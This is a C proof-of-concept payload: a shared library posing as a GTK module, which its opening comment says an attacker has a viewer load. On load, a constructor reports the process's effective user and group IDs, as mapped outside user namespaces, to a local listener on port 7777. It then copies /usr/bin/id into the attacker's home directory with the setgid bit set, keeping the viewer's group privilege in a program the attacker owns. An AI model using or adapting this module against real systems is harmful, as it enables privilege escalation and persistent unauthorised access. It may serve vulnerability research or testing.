/* What an attacker has the viewer load: it reports as whom it runs, and keeps the group in a program of its own. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* The number of an ID outside of all user namespaces: in one of their own anybody is root. */
static unsigned outside(const char *map, unsigned id)
{
    unsigned inner, outer, number;
    FILE *lines = fopen(map, "r");

    while (lines && fscanf(lines, "%u %u %u", &inner, &outer, &number) == 3)
        if (id - inner < number) {
            id = outer + id - inner;
            break;
        }
    if (lines)
        fclose(lines);
    return id;
}

void gtk_module_init(int *argc, char ***argv) {}

__attribute__((constructor)) static void run(void)
{
    char buffer[65536];
    ssize_t count;
    struct sockaddr_in place = {.sin_family = AF_INET, .sin_port = htons(7777)};
    int kept, from = open("/usr/bin/id", O_RDONLY), there = socket(AF_INET, SOCK_STREAM, 0);

    inet_pton(AF_INET, "127.0.0.1", &place.sin_addr);
    if (connect(there, (struct sockaddr *)&place, sizeof place) == 0) {
        snprintf(buffer, sizeof buffer, "%u %u\n", outside("/proc/self/uid_map", geteuid()),
                 outside("/proc/self/gid_map", getegid()));
        if (write(there, buffer, strlen(buffer)) < 0)
            return;
    }
    close(there);
    kept = open("/home/myself/kept", O_WRONLY | O_CREAT | O_EXCL, 0700);
    while (kept >= 0 && (count = read(from, buffer, sizeof buffer)) > 0)
        if (write(kept, buffer, count) < 0)
            return;
    if (kept >= 0)
        fchmod(kept, 02755);
    close(from);
    close(kept);
}
